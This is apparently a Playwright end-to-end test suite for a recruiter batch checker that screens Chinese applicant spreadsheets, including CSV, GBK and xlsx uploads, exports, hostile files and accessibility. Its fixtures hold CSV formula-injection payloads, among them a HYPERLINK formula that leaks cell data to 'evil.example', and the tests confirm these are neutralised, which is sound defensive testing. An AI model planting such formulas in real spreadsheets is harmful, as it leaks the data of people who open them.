// Recruiter batch checks end to end, in the CSP-served demo: a spreadsheet of
// applicants (Chinese text, bad rows, quoted commas and line breaks, formula
// injection attempts) → counts, per-row errors, sort, filter, one
// applicant's full cited report, the exported CSV, GBK and English, hostile
// files, cancelling a long run, a recruitment workbook with its own 岗位表
// (exported as .xlsx and opened again), axe-core, screenshots; and nothing leaves
// the origin (the shared `watch` fixture fails the test otherwise).
import { test, expect, axe, ARTIFACTS } from './fixtures.mjs';
import { readFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import { fileURLToPath } from 'node:url';
import { dirname, join } from 'node:path';

const here = dirname(fileURLToPath(import.meta.url));
const MIXED = join(here, 'fixtures', 'applicants-mixed.csv');
const GBK = join(here, '..', 'tests', 'fixtures', 'batch', 'applicants-gbk.csv');
const WORKBOOK = join(here, '..', 'tests', 'fixtures', 'batch', 'recruitment.xlsx');
const calc = (page, sel) => page.locator(`dengtong-calculator ${sel}`);
const BATCH_URL = (lang = 'zh-CN') =>
  `/#dt=1&lang=${lang}&mode=recruiter&view=batch&jur=CN-YN&asOf=2024-05-01&employer=publicInstitution&post=professional&req=bachelor&skill=0`;

async function openBatch(page, lang = 'zh-CN') {
  await page.goto(BATCH_URL(lang));
  await expect(calc(page, '#dt-batch-file')).toBeAttached({ timeout: 15_000 });
  await expect(calc(page, '#dt-view-batch')).toBeChecked();
}

async function upload(page, file, rows) {
  await calc(page, '#dt-batch-file').setInputFiles(file);
  await expect(calc(page, '.dt-count-all .dt-count-n')).toHaveText(String(rows), { timeout: 20_000 });
  await expect(calc(page, '#dt-batch-export')).toBeEnabled();
}

/** The table as text: [row, label, result] per line shown. */
async function table(page) {
  return calc(page, '#dt-batch-table tbody tr').evaluateAll((trs) =>
    trs.map((tr) => [...tr.querySelectorAll('td')].slice(0, 3).map((td) => td.textContent.trim())),
  );
}

/** Drops a File built in the page on the drop zone (no transfer of big files). */
async function dropBuilt(page, build) {
  await page.evaluate(`(() => {
    const file = (${build})();
    const dt = new DataTransfer();
    dt.items.add(file);
    const zone = document.querySelector('dengtong-calculator').shadowRoot.querySelector('.dt-drop');
    zone.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
  })()`);
}

/** Blob URLs of the page's own origin are not requests leaving it. */
function ownBlobs(watch, origin) {
  const keep = watch.offsite.filter((u) => !u.startsWith(`blob:${origin}/`));
  watch.offsite.splice(0, watch.offsite.length, ...keep);
}

test('batch: counts, row errors naming row and column, sort, filter, detail with a quote, export', async ({ page, watch, baseURL }) => {
  await openBatch(page);
  await expect(calc(page, '.dt-batch-empty')).toBeVisible();
  await upload(page, MIXED, 8);
  const count = (k) => calc(page, `.dt-count-${k} .dt-count-n`);
  await expect(count('eligible')).toHaveText('2');
  await expect(count('ineligible')).toHaveText('3');
  await expect(count('undetermined')).toHaveText('1');
  await expect(count('error')).toHaveText('2');
  await expect(calc(page, '.dt-status')).toContainText('核查完成：共 8 名应聘者');

  // File order, rows as Excel numbers them (王五's certificates cell holds a line break).
  expect(await table(page)).toEqual([
    ['2', '张三', '符合'],
    ['3', '李四', '不符合'],
    ['4', '王五, 二班', '不符合'],
    ['5', '赵六', '有错误'],
    ['6', '=HYPERLINK("http://evil.example/?leak="&A1,"点我")', '符合'],
    ['7', '孙八', '有错误'],
    ['8', '周九', '暂无法判断'],
    ['9', '@SUM(1+1)*cmd', '不符合'],
  ]);
  // Applicant text is text, never markup or a link.
  await expect(calc(page, '#dt-batch-table a')).toHaveCount(0);
  // Row errors name the row and the column, and say what to write.
  const row = (n) => calc(page, `#dt-batch-table tr[data-row="${n}"]`);
  await expect(row(5).locator('.dt-bcol-note')).toContainText('“班级”列');
  await expect(row(7).locator('.dt-bcol-note')).toContainText('“毕业时间”列');
  await expect(row(7).locator('.dt-bcol-note')).toContainText('2023.13.1');
  await expect(row(8).locator('.dt-bcol-note')).toContainText('缺少：班级层次');

  // Sort by result (eligible first), then descending (errors first); by row again.
  await calc(page, '#dt-batch-sort-outcome').click();
  await expect(calc(page, 'th.dt-bcol-outcome')).toHaveAttribute('aria-sort', 'ascending');
  expect((await table(page)).map((r) => r[2])).toEqual(['符合', '符合', '不符合', '不符合', '不符合', '暂无法判断', '有错误', '有错误']);
  await calc(page, '#dt-batch-sort-outcome').press('Enter');
  await expect(calc(page, 'th.dt-bcol-outcome')).toHaveAttribute('aria-sort', 'descending');
  await expect(calc(page, '#dt-batch-sort-outcome')).toBeFocused();
  expect((await table(page)).map((r) => r[0])).toEqual(['7', '5', '8', '9', '4', '3', '6', '2']);
  // By name: Chinese names in pinyin order (li, sun, wang, zhang, zhao, zhou).
  await calc(page, '#dt-batch-sort-label').click();
  const names = (await table(page)).map((r) => r[1]).filter((x) => /^[\u4e00-\u9fff]/.test(x));
  expect(names).toEqual(['李四', '孙八', '王五, 二班', '张三', '赵六', '周九']);
  await calc(page, '#dt-batch-sort-row').click();
  await expect(calc(page, 'th.dt-bcol-row')).toHaveAttribute('aria-sort', 'ascending');

  // Filter by outcome, and search.
  await calc(page, '#dt-batch-filter-error').click();
  await expect(calc(page, '#dt-batch-filter-error')).toHaveAttribute('aria-pressed', 'true');
  expect((await table(page)).map((r) => r[0])).toEqual(['5', '7']);
  await expect(calc(page, '#dt-batch-page')).toHaveText('第 1–2 条，共 2 条');
  await calc(page, '#dt-batch-filter-eligible').click();
  expect((await table(page)).map((r) => r[0])).toEqual(['2', '6']);
  await calc(page, '#dt-batch-filter-all').click();
  await calc(page, '#dt-batch-search').fill('王五');
  await expect(calc(page, '#dt-batch-table tbody tr')).toHaveCount(1);
  await calc(page, '#dt-batch-search').fill('');
  await expect(calc(page, '#dt-batch-table tbody tr')).toHaveCount(8);

  // One applicant's full cited report, re-evaluated from the row as read.
  await calc(page, '#dt-batch-view-2').click();
  const detail = calc(page, '#dt-batch-detail');
  await expect(calc(page, '#dt-batch-detail-h')).toBeFocused();
  await expect(calc(page, '#dt-batch-detail-h')).toHaveText('第 2 行：张三');
  await expect(detail.locator('.dt-batch-asread')).toContainText('预备技师（技师）班');
  await expect(detail.locator('.dt-batch-asread')).toContainText('国家级一类竞赛');
  await expect(detail.locator('.dt-verdict')).toHaveClass(/dt-verdict-eligible/);
  await expect(detail.locator('.dt-verdict')).toContainText('可以报考');
  const cite = detail.locator('.dt-reasons details.dt-cite').first();
  await expect(cite.locator('.dt-cite-no')).toContainText('号');
  await cite.locator('summary').click();
  await expect(cite.locator('.dt-quote')).toBeVisible();
  expect((await cite.locator('.dt-quote').textContent()).length).toBeGreaterThan(10);
  await calc(page, '#dt-batch-back').click();
  await expect(calc(page, '#dt-batch-detail')).toHaveCount(0);
  await expect(calc(page, '#dt-batch-view-2')).toBeFocused();
  // A row with an error shows the error instead.
  await calc(page, '#dt-batch-view-7').click();
  await expect(detail).toContainText('此行无法读取');
  await expect(detail).toContainText('“毕业时间”列');

  // Export: UTF-8 with BOM, CRLF, formulas neutralised; a Blob, no network.
  const [download] = await Promise.all([page.waitForEvent('download'), calc(page, '#dt-batch-export').click()]);
  expect(download.suggestedFilename()).toBe('应聘者核查结果-2024-05-01.csv');
  const bytes = readFileSync(await download.path());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.toString('utf8').slice(1);
  expect(text.startsWith('行号,姓名/编号,结果,')).toBe(true);
  expect(text.split('\r\n').length).toBeGreaterThan(9);
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点我"")"`);
  expect(text).toContain(`'@SUM(1+1)*cmd`);
  expect(text).toContain('"王五, 二班"');
  for (const line of text.split('\r\n')) expect(line).not.toMatch(/(^|,)[=+\-@]/);
  await expect(calc(page, '.dt-status')).toContainText('应聘者核查结果-2024-05-01.csv');
  ownBlobs(watch, new URL(baseURL).origin);
  // The file's content never left the page.
  for (const u of watch.requests) {
    expect(u).not.toContain('evil.example');
    expect(u).not.toContain('%E5%BC%A0'); // 张
    expect(new URL(u).search).toBe('');
  }
});

test('batch: GBK file, English, changed settings flagged and checked again', async ({ page }) => {
  await openBatch(page, 'en');
  await upload(page, GBK, 6);
  await expect(calc(page, '.dt-batch-warnings')).toContainText('read as GBK');
  await expect(calc(page, '.dt-count-eligible .dt-count-n')).toHaveText('2');
  await expect(calc(page, '.dt-count-error .dt-count-n')).toHaveText('2');
  await expect(calc(page, 'th.dt-bcol-label')).toHaveText(/Name \/ ID/);
  await expect(calc(page, '#dt-batch-table tr[data-row="8"] .dt-bcol-note')).toContainText('Column “毕业时间”');
  await expect(calc(page, '#dt-batch-table tr[data-row="8"] .dt-bcol-note')).toContainText('not a day of the calendar');
  // A post that asks for less: the results are flagged as stale until checked again.
  await calc(page, '#dt-reqedu').selectOption('secondaryVocational');
  await expect(calc(page, '.dt-batch-stale')).toBeVisible();
  await expect(calc(page, '.dt-count-eligible .dt-count-n')).toHaveText('2');
  await calc(page, '#dt-batch-rerun').click();
  await expect(calc(page, '.dt-batch-stale')).toHaveCount(0);
  await expect(calc(page, '.dt-count-eligible .dt-count-n')).toHaveText('3');
  await expect(calc(page, '.dt-status')).toContainText('Done: 6 applicants');
  // The share link keeps the view (the file itself is never in it).
  expect(page.url()).toContain('view=batch');
  expect(page.url()).not.toContain('%E5');
});

test('batch: hostile files give clear errors; a long run shows progress, keeps the page responsive and can be cancelled', async ({ page }) => {
  test.setTimeout(90_000);
  await openBatch(page);
  // Binary junk (not UTF-8, not GBK).
  await calc(page, '#dt-batch-file').setInputFiles({
    name: 'photo.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 255) % 256)),
  });
  const err = calc(page, '#dt-batch-error');
  await expect(err).toContainText('无法读取此文件');
  await expect(err).toContainText('CSV UTF-8');
  await expect(calc(page, '.dt-status')).toContainText('无法读取此文件');
  await expect(calc(page, '#dt-batch-export')).toBeDisabled();
  // 1,000 columns.
  await calc(page, '#dt-batch-file').setInputFiles({
    name: 'wide.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from(`${Array.from({ length: 1000 }, (_, i) => `列${i}`).join(',')}\n`),
  });
  await expect(err).toContainText('列数过多');
  // A 50 MB single line, built and dropped in the page.
  const t0 = Date.now();
  await dropBuilt(page, `() => new File(['姓名,' + 'x'.repeat(50 * 1024 * 1024)], 'one-line.csv', { type: 'text/csv' })`);
  await expect(err).toContainText('超过 1000 个字符', { timeout: 30_000 });
  expect(Date.now() - t0).toBeLessThan(30_000);

  // 150,000 applicants: progress moves, the page answers, and Cancel stops it.
  await dropBuilt(
    page,
    `() => {
      const rows = ['姓名,院校类型,班级,学习方式,毕业时间,证书,竞赛获奖,荣誉'];
      for (let i = 0; i < 150000; i++) rows.push('考生' + i + ',技师学院,' + (i % 3 ? '高级工班' : '预备技师（技师）班') + ',全日制,2023-07-01,高级工,,');
      return new File([rows.join('\\r\\n')], 'big.csv', { type: 'text/csv' });
    }`,
  );
  const bar = calc(page, '#dt-batch-progress');
  await expect(bar).toBeVisible();
  await expect.poll(async () => Number(await bar.getAttribute('aria-valuenow')), { timeout: 30_000 }).toBeGreaterThan(0);
  expect(Number(await bar.getAttribute('aria-valuemax'))).toBe(150000);
  await expect(calc(page, '#dt-batch-progress-text')).toContainText('/ 150,000');
  // The main thread is free while the Worker computes.
  const lag = await page.evaluate(async () => {
    let worst = 0;
    for (let i = 0; i < 10; i++) {
      const t = performance.now();
      await new Promise((r) => setTimeout(r, 20));
      worst = Math.max(worst, performance.now() - t - 20);
    }
    return worst;
  });
  expect(lag).toBeLessThan(250);
  await calc(page, '#dt-batch-cancel').click();
  await expect(calc(page, '.dt-status')).toHaveText('已取消核查。');
  await expect(bar).toHaveCount(0);
  await expect(calc(page, '#dt-batch-file')).toBeFocused();
  // A new Worker takes the next file.
  await upload(page, MIXED, 8);
});

test('batch: templates download as they are served', async ({ page, watch, baseURL }) => {
  await openBatch(page);
  for (const [link, file] of [
    ['中文表头', 'applicants-template.zh-CN.csv'],
    ['英文表头', 'applicants-template.en.csv'],
    ['Excel 工作簿（含岗位表）', 'recruitment-template.zh-CN.xlsx'],
  ]) {
    const [download] = await Promise.all([page.waitForEvent('download'), calc(page, `a.dt-template:text-is("${link}")`).click()]);
    expect(download.suggestedFilename()).toBe(file);
    const got = readFileSync(await download.path());
    expect(got.equals(readFileSync(join(here, '..', 'www', 'templates', file)))).toBe(true);
  }
  // And the template itself checks cleanly.
  await upload(page, join(here, '..', 'www', 'templates', 'applicants-template.zh-CN.csv'), 5);
  await expect(calc(page, '.dt-count-error .dt-count-n')).toHaveText('0');
  // The workbook template too, each applicant against a post of its 岗位表.
  await upload(page, join(here, '..', 'www', 'templates', 'recruitment-template.zh-CN.xlsx'), 5);
  await expect(calc(page, '.dt-count-error .dt-count-n')).toHaveText('0');
  await expect(calc(page, '.dt-batch-posts')).toBeVisible();
  ownBlobs(watch, new URL(baseURL).origin);
});

test('batch: axe-core finds nothing; screenshots at 1280 and 320 px without horizontal scrolling', async ({ page, watch }) => {
  for (const [width, lang] of [
    [1280, 'zh-CN'],
    [320, 'zh-CN'],
    [1280, 'en'],
  ]) {
    await page.setViewportSize({ width, height: 900 });
    await page.goto('about:blank');
    await openBatch(page, lang);
    expect(await axe(page, watch), `empty batch view ${width} ${lang}`).toEqual([]);
    await upload(page, MIXED, 8);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    expect(overflow, `${width}px`).toBeLessThanOrEqual(0);
    await page.screenshot({ path: join(ARTIFACTS, `batch-${lang}-${width}.png`), fullPage: true });
    await calc(page, '#dt-batch-view-2').click();
    await calc(page, '#dt-batch-detail details.dt-cite summary').first().click();
    expect(await axe(page, watch), `results and detail ${width} ${lang}`).toEqual([]);
    if (width === 1280 && lang === 'zh-CN') {
      await calc(page, '#dt-batch-detail').screenshot({ path: join(ARTIFACTS, `batch-detail-${lang}-${width}.png`) });
    }
  }
  // Dark mode (without transitions, which axe would catch half-way).
  await page.emulateMedia({ colorScheme: 'dark', reducedMotion: 'reduce' });
  await page.setViewportSize({ width: 1280, height: 900 });
  await openBatch(page);
  await upload(page, MIXED, 8);
  await calc(page, '#dt-batch-view-5').click();
  expect(await axe(page, watch), 'dark').toEqual([]);
  await page.screenshot({ path: join(ARTIFACTS, 'batch-dark-zh-CN-1280.png') });
});

test('batch: print shows a statement, the summary and the rows, not the controls', async ({ page }) => {
  await openBatch(page);
  await upload(page, MIXED, 8);
  await calc(page, '#dt-batch-view-2').click();
  await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
  await page.emulateMedia({ media: 'print' });
  const st = calc(page, '.dt-statement');
  await expect(st).toBeVisible();
  await expect(st).toContainText('应聘者批量核查结果');
  await expect(st).toContainText('applicants-mixed.csv');
  await expect(st).toContainText('2024年5月1日');
  await expect(st).toContainText('共 8 名应聘者');
  await expect(st).toContainText('第 1–8 条，共 8 条');
  await expect(calc(page, '.dt-form')).toBeHidden();
  await expect(calc(page, '#dt-batch-search')).toBeHidden();
  await expect(calc(page, '#dt-batch-table')).toBeVisible();
  await expect(calc(page, '.dt-bcol-report').first()).toBeHidden();
  await expect(calc(page, '#dt-batch-detail .dt-quote').first()).toBeVisible();
  await page.pdf({ path: join(ARTIFACTS, 'batch-zh-CN.pdf'), format: 'A4' });
  await page.emulateMedia({ media: 'screen' });
  await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
});

test('batch: keyboard only — choose the view, open the file chooser, sort, open and close a report', async ({ page }) => {
  await page.goto('/#dt=1&lang=zh-CN&mode=recruiter&jur=CN-YN&asOf=2024-05-01&employer=publicInstitution&post=professional&req=bachelor&skill=0');
  await expect(calc(page, '#dt-view-single')).toBeChecked();
  const active = () => page.evaluate(() => document.querySelector('dengtong-calculator').shadowRoot.activeElement?.id ?? '');
  async function tabTo(id, max = 60) {
    for (let i = 0; i < max; i++) {
      if ((await active()) === id) return;
      await page.keyboard.press('Tab');
    }
    throw new Error(`Tab never reached #${id}; at #${await active()}`);
  }
  await tabTo('dt-view-single');
  await page.keyboard.press('ArrowRight');
  await expect(calc(page, '#dt-view-batch')).toBeChecked();
  expect(await active()).toBe('dt-view-batch');
  await tabTo('dt-batch-file');
  // The visually hidden input shows its focus on the button-like label.
  const ring = await calc(page, '.dt-file-label').evaluate((el) => getComputedStyle(el).outlineStyle);
  expect(ring).toBe('solid');
  // Enter on the focused file input opens the chooser; headless Chromium now
  // and then drops that first activation, so a keyboard retry (Space) follows.
  let chooser;
  for (const key of ['Enter', 'Space', 'Enter']) {
    [chooser] = await Promise.all([
      page.waitForEvent('filechooser', { timeout: 5_000 }).catch(() => null),
      page.keyboard.press(key),
    ]);
    if (chooser) break;
  }
  expect(chooser, 'the file chooser opened from the keyboard').toBeTruthy();
  await chooser.setFiles(MIXED);
  await expect(calc(page, '.dt-count-all .dt-count-n')).toHaveText('8', { timeout: 20_000 });
  await tabTo('dt-batch-sort-outcome', 100);
  await page.keyboard.press('Enter');
  await expect(calc(page, 'th.dt-bcol-outcome')).toHaveAttribute('aria-sort', 'ascending');
  await tabTo('dt-batch-view-2', 40);
  await page.keyboard.press('Enter');
  expect(await active()).toBe('dt-batch-detail-h');
  await expect(calc(page, '#dt-batch-view-2')).toHaveAttribute('aria-expanded', 'true');
  await page.keyboard.press('Tab');
  expect(await active()).toBe('dt-batch-back');
  await page.keyboard.press('Enter');
  expect(await active()).toBe('dt-batch-view-2');
  await expect(calc(page, '#dt-batch-detail')).toHaveCount(0);
});

/** The sheet names and shared strings of an .xlsx (a zip): enough to open
 *  an exported workbook again and read what it says. */
function readXlsx(bytes) {
  const files = new Map();
  // The central directory: its end record is within the last 64 KB.
  let end = bytes.length - 22;
  while (end >= 0 && bytes.readUInt32LE(end) !== 0x06054b50) end--;
  if (end < 0) throw new Error('not a zip');
  let p = bytes.readUInt32LE(end + 16);
  for (let n = bytes.readUInt16LE(end + 10); n > 0; n--) {
    const method = bytes.readUInt16LE(p + 10);
    const size = bytes.readUInt32LE(p + 20);
    const nameLen = bytes.readUInt16LE(p + 28);
    const extra = bytes.readUInt16LE(p + 30);
    const comment = bytes.readUInt16LE(p + 32);
    const local = bytes.readUInt32LE(p + 42);
    const name = bytes.toString('utf8', p + 46, p + 46 + nameLen);
    const start = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
    const raw = bytes.subarray(start, start + size);
    files.set(name, (method === 8 ? inflateRawSync(raw) : raw).toString('utf8'));
    p += 46 + nameLen + extra + comment;
  }
  const sheets = [...(files.get('xl/workbook.xml') ?? '').matchAll(/<sheet [^>]*name="([^"]+)"/g)].map((m) => m[1]);
  const strings = [...(files.get('xl/sharedStrings.xml') ?? '').matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) => m[1]);
  const inline = [...[...files.entries()].filter(([k]) => k.startsWith('xl/worksheets/')).map(([, v]) => v).join('').matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) => m[1]);
  return { sheets, strings: [...strings, ...inline] };
}

test('batch: a recruitment workbook as it comes — each applicant against their own post, a bad row, an unknown post; filter; export .xlsx and open it again', async ({ page, watch, baseURL }) => {
  await openBatch(page);
  await upload(page, WORKBOOK, 9);
  // Against the workbook's 岗位表, not the post in the form: the posts are named, per row.
  await expect(calc(page, '.dt-batch-posts')).toContainText('岗位表');
  await expect(calc(page, '.dt-batch-posts')).toContainText('4 个岗位');
  await expect(calc(page, '#dt-batch-table thead')).toContainText('岗位');
  await expect(calc(page, '.dt-count-eligible .dt-count-n')).toHaveText('4');
  await expect(calc(page, '.dt-count-ineligible .dt-count-n')).toHaveText('2');
  await expect(calc(page, '.dt-count-error .dt-count-n')).toHaveText('3');
  // The reader's notes: the title row, the unused columns.
  await expect(calc(page, '.dt-batch-warnings')).toContainText('作为标题跳过');
  await expect(calc(page, '.dt-batch-warnings')).toContainText('身份证号');
  // The unknown post code is that row's error, naming its column.
  const rows = await table(page);
  expect(rows.find((r) => r[1] === '孙八')).toEqual(['8', '孙八', 'A99']);
  await expect(calc(page, '#dt-batch-table tr[data-row="8"] .dt-bnote')).toContainText('“A99”不在岗位表中');
  await expect(calc(page, '#dt-batch-table tr[data-row="5"] .dt-bcol-post')).toHaveText('A02');
  await page.screenshot({ path: join(ARTIFACTS, 'batch-workbook-zh-CN.png'), fullPage: true });
  // Filter, then one applicant's report against their own post (B01).
  await calc(page, '#dt-batch-filter-eligible').click();
  expect((await table(page)).map((r) => r[1])).toEqual(['张三', '王五', '钱七', '郑一']);
  await calc(page, '#dt-batch-view-7').click();
  await expect(calc(page, '#dt-batch-detail')).toContainText('钱七');
  // Export the results as a workbook, and open it again.
  const [download] = await Promise.all([page.waitForEvent('download'), calc(page, '#dt-batch-export-xlsx').click()]);
  expect(download.suggestedFilename()).toBe('应聘者核查结果-2024-05-01.xlsx');
  const book = readXlsx(readFileSync(await download.path()));
  expect(book.sheets.length).toBe(2);
  for (const s of ['张三', '孙八', '郑一', 'A01', 'B01', '2025003']) expect(book.strings, s).toContain(s);
  await expect(calc(page, '#dt-status')).toContainText('.xlsx');
  ownBlobs(watch, new URL(baseURL).origin);
});
